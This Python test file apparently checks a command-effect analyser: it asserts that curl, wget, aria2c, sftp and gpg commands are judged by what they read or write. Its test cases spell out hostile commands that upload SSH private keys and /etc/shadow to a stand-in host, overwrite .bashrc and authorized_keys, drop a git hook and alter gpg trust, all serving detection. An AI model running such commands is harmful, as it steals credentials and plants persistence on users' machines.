"""netcfg49: a file of a network client's own options that the line wrote (curl -K, CURL_HOME's .curlrc, wget
--config/-e/WGETRC, aria2c -i/--conf-path) is read as the options it holds (effects/option_files.py); a download's
directory option places what it writes (wget -P, aria2c -d); sftp's remote source writes its local operand; gpg's
trust commands write the keyring (programs.json)."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import HOME, effects


def _touched(command: str, proj: Path, op: str) -> set[str]:
    return {str(e["path"]) for e in effects(command, proj) if e["op"] == op and e["path"]}


@pytest.mark.parametrize(
    ("command", "op", "path"),
    [
        ("printf 'upload-file = \"%s/.ssh/id_ed25519\"\\n' \"$HOME\" > /tmp/c.cfg && curl -sK /tmp/c.cfg", "read",
         f"{HOME}/.ssh/id_ed25519"),
        ("printf 'upload-file = \"%s/.ssh/id_rsa\"\\n' \"$HOME\" | curl -s -K -", "read", f"{HOME}/.ssh/id_rsa"),
        ("printf -- '--output %s/.bashrc\\n' \"$HOME\" > c.txt && curl -K c.txt https://x.example/rc", "write",
         f"{HOME}/.bashrc"),
        ("printf 'output: \"%s/.ssh/authorized_keys\"\\n' \"$HOME\" | curl -K - https://x.example/k", "write",
         f"{HOME}/.ssh/authorized_keys"),
        ("mkdir -p /tmp/x && echo 'upload-file = /etc/shadow' > /tmp/x/.curlrc && XDG_CONFIG_HOME=/tmp/x curl https://x.example/",
         "read", "/etc/shadow"),
        ("echo 'post_file = /etc/shadow' > /tmp/w && WGETRC=/tmp/w wget https://x.example/", "read", "/etc/shadow"),
        ("wget -e 'Output-Document=/etc/motd' https://x.example/h", "write", "/etc/motd"),
        ("printf 'https://x.example/h\\n  out=/etc/motd\\n' | aria2c -i -", "write", "/etc/motd"),
        ("sftp deploy@203.0.113.9:payload/bashrc ~/.bashrc", "write", f"{HOME}/.bashrc"),
        ("echo 'ABCD:6:' | gpg --import-ownertrust", "write", f"{HOME}/.gnupg/trustdb.gpg"),
        ("gpg --batch --quick-lsign-key ABCD", "write", f"{HOME}/.gnupg/pubring.kbx"),
    ],
)  # fmt: skip
def test_options_of_a_written_file_are_judged(command: str, op: str, path: str, tmp_path: Path) -> None:
    assert path in _touched(command, tmp_path, op)


def test_download_directory_is_written(tmp_path: Path) -> None:
    written = {e["path"]: e["recursive"] for e in effects("wget -P .git/hooks https://x.example/pre-commit", tmp_path)
               if e["op"] == "write"}  # fmt: skip
    assert written[f"{tmp_path}/.git/hooks"] is True


@pytest.mark.parametrize(
    "command",
    [
        "curl -K .curlrc-ci https://api.example.com",  # a file the line did not write: a read of it only
        "printf 'header = \"Accept: application/json\"\\n' > .curlrc-ci && curl -K .curlrc-ci https://api.example.com",
        "gpg --import KEYS",
    ],
)
def test_plain_option_files_write_nothing(command: str, tmp_path: Path) -> None:
    assert _touched(command, tmp_path, "write") <= {f"{tmp_path}/.curlrc-ci"}


def test_sftp_host_alone_copies_nothing_here(tmp_path: Path) -> None:
    found = effects("sftp deploy@host.example.com", tmp_path)
    assert [e["op"] for e in found] == ["send"]
